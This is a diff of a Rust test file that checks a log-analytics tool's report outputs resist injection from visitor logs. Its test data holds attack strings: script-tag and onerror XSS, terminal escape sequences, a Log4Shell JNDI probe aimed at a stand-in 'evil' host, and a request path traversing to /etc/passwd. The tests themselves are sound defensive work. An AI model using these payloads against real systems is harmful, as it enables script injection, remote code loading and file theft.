@@ -1,11 +1,11 @@
-//! What visitors write into a log can't break out of any output.
+//! Tests that no output format is vulnerable to injection from a log.
 
 use quick_xml::Reader;
 use quick_xml::events::Event;
 
 use crate::program::{Site, line};
 
-/// User agents and paths as attackers send them; each is named Unknown AI or becomes a term.
+/// User agents of attacks. All but the last, a Log4Shell probe, are named Unknown AI.
 const USER_AGENTS: [&str; 5] = [
     "</style><script>alert(1)</script> EvilBot/1.0",
     "\\x1b[2J\\x1b]0;owned\\x07 EvilBot/1.0",
@@ -14,6 +14,7 @@ const USER_AGENTS: [&str; 5] = [
     "${jndi:ldap://evil} EvilBot/1.0",
 ];
 
+/// Paths of attacks. Each becomes a term.
 const PATHS: [&str; 7] = [
     "/t/<script>alert(1)<%2fscript>",
     "/t/%22onload=%22alert(1)",
@@ -24,8 +25,8 @@ const PATHS: [&str; 7] = [
     "/t/|a|`b`*c*",
 ];
 
-fn attacked() -> Site {
-    // A title is the owner's own, but is shown as it is written all the same.
+fn attacked_site() -> Site {
+    // Texts from the config are trusted, but must be escaped too.
     let site = Site::new(
         "[site]\nname = \"<b>&\\\"site\\\"\"\ncaption = \"<i>&</i>\"\n[[logs]]\npaths = [\"access.log\"]\n\
          [terms]\npattern = '^/t/(?<term>.+)$'\n\
@@ -33,12 +34,12 @@ fn attacked() -> Site {
          [[agents]]\nname = \"<img src=x onerror=alert(1)>\"\ntokens = [\"GPTBot\"]\n\
          [reports]\nformats = [\"html\", \"svg\", \"json\", \"csv\", \"md\", \"text\", \"png\"]\n",
     );
-    let at = "20/May/2026:10:00:00 +0000";
+    let time = "20/May/2026:10:00:00 +0000";
     let mut text = String::new();
     for path in PATHS {
-        text += &line(at, path, 200, "GPTBot/1.2");
+        text += &line(time, path, 200, "GPTBot/1.2");
         for user_agent in USER_AGENTS {
-            text += &line(at, path, 200, user_agent);
+            text += &line(time, path, 200, user_agent);
         }
     }
     site.write("access.log", text);
@@ -46,24 +47,25 @@ fn attacked() -> Site {
     site
 }
 
-fn published(site: &Site, ending: &str) -> Vec<(String, String)> {
+/// Returns the name and content of all published files with this extension.
+fn published(site: &Site, extension: &str) -> Vec<(String, String)> {
     let mut files = Vec::new();
     for folder in ["reports", "reports/terms"] {
         for entry in std::fs::read_dir(site.path(folder)).unwrap() {
             let path = entry.unwrap().path();
-            if path.extension().is_some_and(|found| found == ending) {
+            if path.extension().is_some_and(|found| found == extension) {
                 let text = std::fs::read_to_string(&path).unwrap();
                 files.push((path.display().to_string(), text));
             }
         }
     }
-    assert!(files.len() > PATHS.len(), "{ending}: {}", files.len());
+    assert!(files.len() > PATHS.len(), "{extension}: {}", files.len());
     files
 }
 
 #[test]
-fn markup_has_only_elements_of_our_own() {
-    let site = attacked();
+fn markup_has_only_known_elements() {
+    let site = attacked_site();
     let known = [
         "section", "style", "header", "h2", "h3", "p", "small", "ol", "ul", "li", "span", "b",
         "svg", "rect", "title", "table", "tr", "th", "td", "text", "a", "html", "head", "body",
@@ -71,7 +73,7 @@ fn markup_has_only_elements_of_our_own() {
     ];
     for (name, text) in published(&site, "html").into_iter().chain(published(&site, "svg")) {
         assert!(text.is_ascii(), "{name}");
-        // The page's <meta> tags are HTML and not XML; all else must be well-formed.
+        // The <meta> tags of the page are HTML and not XML. The rest must be well-formed XML.
         let text = text
             .replace("<meta charset=\"utf-8\">", "")
             .replace("<meta name=\"generator\" content=\"guestbook\">", "")
@@ -100,14 +102,14 @@ fn markup_has_only_elements_of_our_own() {
 }
 
 #[test]
-fn text_and_tables_control_nothing() {
-    let site = attacked();
-    for ending in ["text", "md", "csv", "json"] {
-        for (name, text) in published(&site, ending) {
-            let acts =
+fn text_formats_have_no_control_characters_or_formulas() {
+    let site = attacked_site();
+    for extension in ["text", "md", "csv", "json"] {
+        for (name, text) in published(&site, extension) {
+            let is_control =
                 |c: char| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c);
-            assert!(!text.contains(acts), "{name}: {text}");
-            if ending == "csv" {
+            assert!(!text.contains(is_control), "{name}: {text}");
+            if extension == "csv" {
                 for cell in text.lines().flat_map(|line| line.split(',')) {
                     let cell = cell.trim_start_matches('"');
                     assert!(!cell.starts_with(['=', '+', '@']), "{name}: {cell}");
@@ -115,13 +117,13 @@ fn text_and_tables_control_nothing() {
             }
         }
     }
-    let said = site.succeed(&["parse", "access.log"]);
-    assert!(!said.contains('\u{1b}'), "{said}");
+    let output = site.succeed(&["parse", "access.log"]);
+    assert!(!output.contains('\u{1b}'), "{output}");
 }
 
 #[test]
-fn no_file_is_written_elsewhere() {
-    let site = attacked();
+fn no_file_is_written_outside_the_reports_folder() {
+    let site = attacked_site();
     let mut names: Vec<String> = std::fs::read_dir(site.path(""))
         .unwrap()
         .map(|entry| entry.unwrap().file_name().into_string().unwrap())
@@ -132,8 +134,8 @@ fn no_file_is_written_elsewhere() {
 }
 
 #[test]
-fn attacks_are_counted_like_everything_else() {
-    let site = attacked();
+fn attacks_are_counted_like_other_requests() {
+    let site = attacked_site();
     let report = site.term("../../../etc/passwd", "2026-05-20");
     assert_eq!(report["total_pings"], 6);
     assert_eq!(report["request_types"][0]["type"], "<u>type</u>");
